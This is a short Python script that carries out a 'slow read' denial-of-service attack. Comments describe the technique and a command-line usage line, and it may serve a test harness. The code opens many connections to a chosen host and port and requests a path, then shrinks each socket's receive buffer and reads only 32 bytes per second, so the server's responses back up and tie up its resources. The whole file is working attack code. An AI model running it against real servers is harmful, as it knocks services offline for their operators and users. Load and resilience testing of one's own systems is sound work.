# The "slow read" attack: many clients ask for a large file, advertise a tiny receive window and
# read a few bytes at a time, so the server's answers pile up behind them.
# Usage: slow_reader.py <host> <port> <path> <connections> <seconds>
# Prints "<n> reading" once every connection has asked, then "done" when it hangs up.
import socket
import sys
import time

host, port, path = sys.argv[1], int(sys.argv[2]), sys.argv[3]
connections, seconds = int(sys.argv[4]), float(sys.argv[5])
request = ('GET %s HTTP/1.1\r\nHost: %s:%d\r\n\r\n' % (path, host, port)).encode('latin-1')

clients = []
for i in range(connections):
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    # a small receive buffer keeps the advertised window small
    s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1024)
    s.settimeout(10)
    s.connect((host, port))
    s.sendall(request)
    clients.append(s)
print('%d reading' % len(clients), flush=True)

deadline = time.time() + seconds
while time.time() < deadline:
    for s in clients:
        try:
            s.recv(32)
        except OSError:
            pass
    time.sleep(1)
for s in clients:
    s.close()
print('done', flush=True)
